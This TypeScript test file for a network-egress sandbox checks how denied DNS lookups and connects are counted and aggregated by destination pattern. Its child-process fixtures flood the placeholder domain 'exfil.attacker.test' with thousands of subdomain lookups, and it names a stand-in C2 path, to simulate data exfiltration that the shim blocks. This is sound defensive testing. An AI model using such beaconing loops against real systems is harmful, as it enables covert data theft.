// A flood of distinct denies (issue 20): the record queue counts what overflows it per destination
// pattern (aggregate records) instead of dropping it, so every deny is in some record's count; the
// pattern function (property-tested); and a real Node child flooding denied names through the preload.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DenyRecord } from '../../policy/types.js';
import {
  addressPrefix,
  MAX_PATTERN_TEXT,
  patternOf,
  patternText,
  registrableDomain,
} from '../../runtime-shims/node/pattern.js';
import {
  AGGREGATE_SAMPLE,
  type RecordInput,
  RecordQueue,
  type Sink,
} from '../../runtime-shims/node/records.js';
import { type Api, type StoreFactory, startApi, storeFactory } from '../control/harness.js';
import { type Fixture, killAll, makeFixture, runNode } from './harness.js';

function dnsDeny(name: string, origin?: RecordInput['origin']): RecordInput {
  return {
    kind: 'dns',
    destination: { host: name, protocol: 'dns' },
    decision: 'deny',
    mode: 'enforce',
    rule: 'default-deny',
    revision: 2,
    ...(origin ? { origin } : {}),
  };
}

function connectDeny(ip: string, port: number): RecordInput {
  return {
    kind: 'connect',
    destination: { ip, port, protocol: 'tcp' },
    decision: 'deny',
    mode: 'enforce',
    rule: 'default-deny',
    revision: 2,
  };
}

function memorySink(): Sink & { records: DenyRecord[] } {
  const records: DenyRecord[] = [];
  return { description: 'memory', records, deliver: async (batch) => void records.push(...batch) };
}

const total = (records: DenyRecord[]) => records.reduce((sum, r) => sum + r.count, 0);

describe('aggregation of a flood of distinct denies', () => {
  it('counts every deny exactly: delivered counts (records and aggregates) plus dropped equal the denies', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({ cloud: 'other' }), {
      maxPending: 100,
      log: () => undefined,
      delayMs: 60_000,
    });
    let denies = 0;
    for (let i = 0; i < 5000; i++) {
      queue.add(dnsDeny(`x${i}.exfil.attacker.test`));
      denies++;
      // Some exact repeats too: they merge into their record or count into the aggregate.
      if (i % 7 === 0) {
        queue.add(dnsDeny(`x${i}.exfil.attacker.test`));
        denies++;
      }
    }
    for (let port = 1; port <= 3000; port++) {
      queue.add(connectDeny('203.0.113.7', port));
      denies++;
    }
    const result = await queue.flush();
    expect(result.dropped).toBe(0);
    expect(total(sink.records) + queue.dropped).toBe(denies);
    const aggregates = sink.records.filter((r) => r.aggregate);
    expect(aggregates.map((r) => r.aggregate?.pattern).sort()).toEqual([
      '*.attacker.test',
      '203.0.113.7:1-3000',
    ]);
    const names = aggregates.find((r) => r.kind === 'dns') as DenyRecord;
    // The first 100 distinct names were queued one by one (with their exact repeats merged).
    expect(names.count).toBe(
      denies - 3000 - total(sink.records.filter((r) => r.kind === 'dns' && !r.aggregate)),
    );
    expect(names.aggregate?.distinct).toBe(4900);
    expect(names.aggregate?.sample).toHaveLength(AGGREGATE_SAMPLE);
    expect(names.aggregate?.sample[0]).toBe('x100.exfil.attacker.test');
    expect(names.destination).toEqual({ host: 'x100.exfil.attacker.test', protocol: 'dns' });
    expect(Date.parse(names.time)).toBeLessThanOrEqual(Date.parse(names.lastTime ?? ''));
    const ports = aggregates.find((r) => r.kind === 'connect') as DenyRecord;
    expect(ports).toMatchObject({ count: 3000, aggregate: { distinct: 3000 } });
  });

  it('keeps first and last times, severity, and the origin found once', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({}), { maxPending: 1, log: () => undefined, delayMs: 60_000 });
    const t0 = Date.now();
    queue.add(dnsDeny('a.attacker.test'));
    // Overflowing: the first needs an origin (true), the next ones do not (the aggregate has it).
    expect(queue.add(dnsDeny('b.attacker.test'))).toBe(true);
    queue.setOrigin({ file: '/app/exfil.js', line: 7 });
    expect(queue.add(dnsDeny('c.attacker.test'))).toBe(false);
    await new Promise((r) => setTimeout(r, 15));
    queue.add({ ...dnsDeny('d.attacker.test'), severity: 'high' });
    await queue.flush();
    const aggregate = sink.records.find((r) => r.aggregate) as DenyRecord;
    expect(aggregate).toMatchObject({
      count: 3,
      severity: 'high',
      origin: { file: '/app/exfil.js', line: 7 },
      aggregate: {
        pattern: '*.attacker.test',
        distinct: 3,
        sample: ['b.attacker.test', 'c.attacker.test', 'd.attacker.test'],
      },
    });
    expect(Date.parse(aggregate.time)).toBeGreaterThanOrEqual(t0 - 1);
    expect(Date.parse(aggregate.lastTime ?? '') - Date.parse(aggregate.time)).toBeGreaterThanOrEqual(10);
  });

  it('a merged record keeps its origin, and gets one from a later deny when its first had none', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({}), { log: () => undefined, delayMs: 60_000 });
    // The first connect had no origin to find (no application frame): the record asks again.
    expect(queue.add(connectDeny('10.0.0.1', 9))).toBe(true);
    queue.setOrigin(undefined);
    expect(queue.add(connectDeny('10.0.0.1', 9))).toBe(true);
    queue.setOrigin({ package: 'leaky@1.0.0', file: '/app/node_modules/leaky/index.js', line: 3 });
    // From then on the merged record has it: no more stack walks, and it is not replaced.
    expect(queue.add(connectDeny('10.0.0.1', 9))).toBe(false);
    queue.setOrigin({ file: '/elsewhere.js', line: 1 });
    await queue.flush();
    expect(sink.records).toHaveLength(1);
    expect(sink.records[0]).toMatchObject({
      count: 3,
      origin: { package: 'leaky@1.0.0', file: '/app/node_modules/leaky/index.js', line: 3 },
    });
    expect(sink.records[0]?.lastTime).toBeDefined();
  });

  it('bounds memory: distinct values counted up to a budget, then distinctCapped; patterns beyond the table share a catch-all', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({}), {
      maxPending: 1,
      maxAggregates: 4,
      maxDistinctTracked: 50,
      log: () => undefined,
      delayMs: 60_000,
    });
    queue.add(dnsDeny('first.example.test'));
    for (let i = 0; i < 200; i++) queue.add(dnsDeny(`n${i}.attacker.test`));
    for (let i = 0; i < 40; i++) queue.add(dnsDeny(`www.domain${i}.test`));
    await queue.flush();
    expect(total(sink.records)).toBe(241);
    const byPattern = new Map(sink.records.filter((r) => r.aggregate).map((r) => [r.aggregate?.pattern, r]));
    expect(byPattern.get('*.attacker.test')).toMatchObject({
      count: 200,
      aggregate: { distinct: 50, distinctCapped: true },
    });
    // 3 more patterns fit the table; the other 37 domains went to the rule's catch-all.
    expect(byPattern.get('*')?.count).toBe(37);
    expect(byPattern.size).toBe(5);
    for (const r of sink.records)
      expect(r.aggregate?.sample.length ?? 0).toBeLessThanOrEqual(AGGREGATE_SAMPLE);
  });

  it('a pattern that overflowed stays aggregated while the flood goes on, and is queued one by one once quiet', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({}), {
      maxPending: 2,
      hotMs: 50,
      log: () => undefined,
      delayMs: 60_000,
    });
    for (let i = 0; i < 10; i++) queue.add(dnsDeny(`a${i}.attacker.test`));
    await queue.flush();
    expect(sink.records.map((r) => r.count)).toEqual([1, 1, 8]);
    // The queue has room again, but the flood is still on: counted into a new window of the aggregate.
    for (let i = 0; i < 5; i++) queue.add(dnsDeny(`b${i}.attacker.test`));
    // Another pattern is queued one by one.
    queue.add(dnsDeny('www.other.test'));
    await queue.flush();
    expect(sink.records.slice(3).map((r) => [r.count, r.aggregate?.pattern])).toEqual([
      [1, undefined],
      [5, '*.attacker.test'],
    ]);
    await new Promise((r) => setTimeout(r, 60));
    await queue.flush(); // quiet for longer than hotMs: the aggregate is forgotten
    queue.add(dnsDeny('c0.attacker.test'));
    await queue.flush();
    expect(sink.records.at(-1)).toMatchObject({ count: 1, destination: { host: 'c0.attacker.test' } });
    expect(sink.records.at(-1)?.aggregate).toBeUndefined();
    expect(total(sink.records)).toBe(17);
  });

  it('counts open aggregates as queued, so the exit flush of a sink without synchronous delivery sends them', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({}), { maxPending: 1, log: () => undefined, delayMs: 60_000 });
    queue.add(dnsDeny('a.attacker.test'));
    queue.add(dnsDeny('b.attacker.test'));
    await queue.flush();
    expect(queue.queued).toBe(0);
    // The pattern is still flooding: these only go into its aggregate, nothing is queued one by one.
    queue.add(dnsDeny('c.attacker.test'));
    queue.add(dnsDeny('d.attacker.test'));
    expect(queue.queued).toBe(1);
    expect(await queue.flush()).toEqual({ delivered: 1, pending: 0, dropped: 0 });
    expect(total(sink.records)).toBe(4);
  });

  it('numbers aggregate records too, so the API counts gaps across them', async () => {
    const sink = memorySink();
    const queue = new RecordQueue(sink, () => ({}), {
      maxPending: 2,
      numberRecords: true,
      log: () => undefined,
      delayMs: 60_000,
    });
    for (let i = 0; i < 10; i++) queue.add(connectDeny('10.9.8.7', 1000 + i));
    await queue.flush();
    expect(sink.records.map((r) => r.seq)).toEqual([1, 2, 3]);
    expect(sink.records[2]?.aggregate?.pattern).toBe('10.9.8.7:1002-1009');
  });

  it('shows open aggregates in peek() without a sink, and spools them synchronously at exit', () => {
    const delivered: DenyRecord[] = [];
    const sink: Sink = {
      description: 'sync',
      deliver: async () => undefined,
      deliverSync: (batch) => void delivered.push(...batch),
    };
    const queue = new RecordQueue(undefined, () => ({}), { maxPending: 1, log: () => undefined });
    for (let i = 0; i < 4; i++) queue.add(dnsDeny(`q${i}.attacker.test`));
    expect(queue.peek().map((r) => r.count)).toEqual([1, 3]);
    queue.setSink(sink);
    queue.drainSync();
    expect(total(delivered)).toBe(4);
    expect(delivered[1]?.aggregate?.pattern).toBe('*.attacker.test');
  });
});

describe('destination patterns', () => {
  it('groups names under their registrable domain (two-letter country second levels kept)', () => {
    expect(registrableDomain('x1.exfil.attacker.test')).toBe('attacker.test');
    expect(registrableDomain('attacker.test.')).toBe('attacker.test');
    expect(registrableDomain('a.b.example.co.uk')).toBe('example.co.uk');
    expect(registrableDomain('bucket.s3.amazonaws.com')).toBe('amazonaws.com');
    expect(registrableDomain('www.example.com.au')).toBe('example.com.au');
    expect(registrableDomain('localhost')).toBe('localhost');
    expect(patternOf({ host: 'x1.exfil.attacker.test', protocol: 'dns' })).toEqual({
      base: '*.attacker.test',
      ip: undefined,
      value: 'x1.exfil.attacker.test',
    });
    expect(patternOf({ host: 'wpad' }).base).toBe('*');
    // HTTP: requests to one host told apart by their paths.
    expect(patternOf({ host: 'api.attacker.test', port: 443, path: '/c2/abc', protocol: 'https' })).toEqual({
      base: '*.attacker.test',
      ip: undefined,
      value: 'api.attacker.test:443/c2/abc',
    });
  });

  it('groups addresses under /24 or /64 with their port range; sockets by directory; commands as is', () => {
    expect(patternOf({ ip: '10.1.2.3', port: 443 })).toEqual({
      base: '10.1.2.0/24',
      ip: '10.1.2.3',
      value: '10.1.2.3:443',
    });
    expect(addressPrefix('2001:db8:0:1::5')).toBe('2001:db8:0:1::/64');
    expect(patternText('10.1.2.0/24', '10.1.2.3', 1, 65535)).toBe('10.1.2.3:1-65535');
    expect(patternText('10.1.2.0/24', undefined, 443, 443)).toBe('10.1.2.0/24:443');
    expect(patternText('2001:db8:0:1::/64', '2001:db8:0:1::5', 80, 81)).toBe('[2001:db8:0:1::5]:80-81');
    expect(patternOf({ socket: '/var/run/docker.sock' }).base).toBe('/var/run/*');
    expect(patternOf({ socket: '@abstract' }).base).toBe('@*');
    expect(patternOf({ command: '/usr/bin/curl' }).base).toBe('/usr/bin/curl');
    expect(patternOf({ host: '127.0.0.1', ip: '127.0.0.1', port: 80 }).base).toBe('127.0.0.0/24');
  });

  const label = fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?$/);
  // A top-level label is alphabetic (an all-digit one would make the text an IPv4 address).
  const tld = fc.stringMatching(/^[a-z]{2,10}$/);
  const hostname = fc
    .tuple(fc.array(label, { maxLength: 5 }), tld)
    .map(([labels, top]) => [...labels, top].join('.'));

  it('property: a name is under its pattern, the pattern keeps its last label, and it never grows past the bound', () => {
    fc.assert(
      fc.property(hostname, (name) => {
        const { base, value } = patternOf({ host: name, protocol: 'dns' });
        expect(value).toBe(name);
        const domain = registrableDomain(name);
        expect(name === domain || name.endsWith(`.${domain}`)).toBe(true);
        expect(domain.split('.').at(-1)).toBe(name.split('.').at(-1));
        if (base !== '*') {
          expect(base).toBe(`*.${domain}`);
          expect(`.${name}`.endsWith(base.slice(1))).toBe(true);
        }
        // A name deeper under the same registrable domain lands in the same group.
        if (name !== domain) expect(patternOf({ host: `z9.${name}` }).base).toBe(base);
      }),
      { numRuns: 500 },
    );
  });

  it('property: any text at all gives a bounded pattern and value, and never throws', () => {
    fc.assert(
      fc.property(
        fc.record(
          {
            host: fc.string({ maxLength: 400 }),
            ip: fc.oneof(fc.ipV4(), fc.ipV6(), fc.string({ maxLength: 80 })),
            port: fc.integer({ min: 0, max: 65535 }),
            socket: fc.string({ maxLength: 400 }),
            command: fc.string({ maxLength: 400 }),
          },
          { requiredKeys: [] },
        ),
        (d) => {
          const p = patternOf(d);
          expect(p.base.length).toBeLessThanOrEqual(MAX_PATTERN_TEXT);
          expect(p.value.length).toBeLessThanOrEqual(MAX_PATTERN_TEXT);
          expect(patternText(p.base, p.ip, d.port, d.port).length).toBeLessThanOrEqual(MAX_PATTERN_TEXT);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('groups other spellings of an IPv4 address like the canonical one', () => {
    expect(addressPrefix('127.1')).toBe('127.0.0.0/24');
    expect(addressPrefix('010.1.2.3')).toBe(addressPrefix('8.1.2.3'));
    expect(addressPrefix('::ffff:10.1.2.3')).toBe('10.1.2.0/24');
    expect(addressPrefix('256.1.2.3')).toBeUndefined();
    expect(addressPrefix('1.2.3')).toBe('1.2.0.0/24');
  });

  it('property: an address is inside the prefix it is grouped under', () => {
    fc.assert(
      fc.property(fc.ipV4(), (ip) => {
        const prefix = addressPrefix(ip) as string;
        expect(prefix.endsWith('.0/24')).toBe(true);
        expect(ip.split('.').slice(0, 3).join('.')).toBe(prefix.split('.').slice(0, 3).join('.'));
      }),
    );
  });
});

describe('a real Node child flooding denied names', { timeout: 120_000 }, () => {
  let fx: Fixture;
  beforeAll(() => {
    fx = makeFixture({ allow: ['{ to: { host: allowed.example.test, port: 443 } }'] });
  });
  afterAll(() => {
    killAll();
    fx.cleanup();
  });

  it('20,000 distinct denied lookups: the spooled records count 20,000 exactly, with an aggregate naming *.attacker.test and the origin', async () => {
    const app = join(fx.dir, 'exfil.cjs');
    writeFileSync(
      app,
      `const dns = require('node:dns');
(async () => {
  const codes = new Set();
  for (let i = 0; i < 20000; i += 200) {
    const wave = [];
    for (let j = i; j < i + 200; j++)
      wave.push(new Promise((resolve) => dns.lookup('c' + j + '.exfil.attacker.test', (e) => { codes.add(e && e.code); resolve(); })));
    await Promise.all(wave);
  }
  const shim = globalThis[Symbol.for('bulkhead.shim.instance')];
  await shim.flush();
  console.log(JSON.stringify({ codes: [...codes], dropped: shim.status().dropped }));
})();
`,
    );
    const spool = join(fx.dir, 'flood.ndjson');
    const run = await runNode('', fx.env({ BULKHEAD_REPORT: spool }), { args: [app], timeoutMs: 90_000 });
    expect(run.code).toBe(0);
    expect(run.json).toEqual({ codes: ['ERR_BULKHEAD_DENIED'], dropped: 0 });
    const records = readFileSync(spool, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as DenyRecord);
    expect(total(records)).toBe(20_000);
    const aggregates = records.filter((r) => r.aggregate);
    expect(aggregates.length).toBeGreaterThan(0);
    // A flood of denies becomes a few records, not 20,000.
    expect(records.length).toBeLessThan(2000);
    for (const r of aggregates) {
      expect(r).toMatchObject({
        kind: 'dns',
        rule: 'default-deny',
        aggregate: { pattern: '*.attacker.test' },
      });
      expect(r.origin?.file).toBe(app);
      expect(r.aggregate?.sample.every((name) => name.endsWith('.exfil.attacker.test'))).toBe(true);
    }
    expect(aggregates.reduce((sum, r) => sum + (r.aggregate?.distinct ?? 0), 0)).toBe(total(aggregates));
  });

  it('through the HTTP sink to the control API: stored, found by the domain, counts summing to the flood, none missing', async () => {
    let factory: StoreFactory | undefined;
    let api: Api | undefined;
    try {
      factory = await storeFactory('sqlite');
      api = await startApi(factory);
      const app = join(fx.dir, 'exfil-http.cjs');
      writeFileSync(
        app,
        `const dns = require('node:dns');
(async () => {
  for (let i = 0; i < 5000; i += 100) {
    const wave = [];
    for (let j = i; j < i + 100; j++) wave.push(new Promise((r) => dns.lookup('h' + j + '.exfil.attacker.test', r)));
    await Promise.all(wave);
  }
  const shim = globalThis[Symbol.for('bulkhead.shim.instance')];
  const result = await shim.flush();
  console.log(JSON.stringify({ ...result, error: shim.status().lastDeliveryError ?? null }));
})();
`,
      );
      const run = await runNode(
        '',
        fx.env({ BULKHEAD_REPORT: `${api.server.url}/v1/reports`, BULKHEAD_TOKEN: api.workload }),
        { args: [app], timeoutMs: 60_000 },
      );
      expect(run.json).toEqual({ delivered: expect.any(Number), pending: 0, dropped: 0, error: null });
      const text = await (await api.call('/v1/denies?destination=*.attacker.test&format=ndjson')).text();
      const records = text
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as DenyRecord);
      expect(total(records)).toBe(5000);
      const aggregate = records.find((r) => r.aggregate);
      expect(aggregate?.aggregate?.pattern).toBe('*.attacker.test');
      expect(aggregate?.sandboxId).toBeDefined();
      // Numbered records (sandboxId, seq), aggregates included: the API sees no gap.
      const metrics = await (await api.call('/metrics')).text();
      expect(metrics).toMatch(/^bulkhead_report_records_missing 0$/m);
    } finally {
      await api?.server.close();
      await factory?.cleanup();
    }
  });

  it('without a sink, logs at most a burst of deny lines a second and one summary of the rest', async () => {
    const app = join(fx.dir, 'quiet.cjs');
    writeFileSync(
      app,
      `const dns = require('node:dns');
(async () => {
  for (let i = 0; i < 3000; i++) await new Promise((r) => dns.lookup('q' + i + '.attacker.test', r));
  console.log('{}');
})();
`,
    );
    const run = await runNode('', fx.env({ BULKHEAD_REPORT: '', BULKHEAD_LOG: 'stderr' }), { args: [app] });
    expect(run.code).toBe(0);
    const lines = run.stderr.split('\n').filter((l) => l.startsWith('bulkhead: '));
    const denyLines = lines.filter((l) => l.includes('DENY dns'));
    const summaries = lines.filter((l) => l.includes('more denies not logged one by one'));
    expect(denyLines.length).toBeLessThan(200);
    expect(summaries.length).toBeGreaterThan(0);
    const held = summaries.reduce(
      (sum, l) => sum + Number(/([\d,]+) more denies/.exec(l)?.[1]?.replace(/,/g, '')),
      0,
    );
    expect(denyLines.length - summaries.filter((l) => l.includes('DENY dns')).length + held).toBe(3000);
  });
});
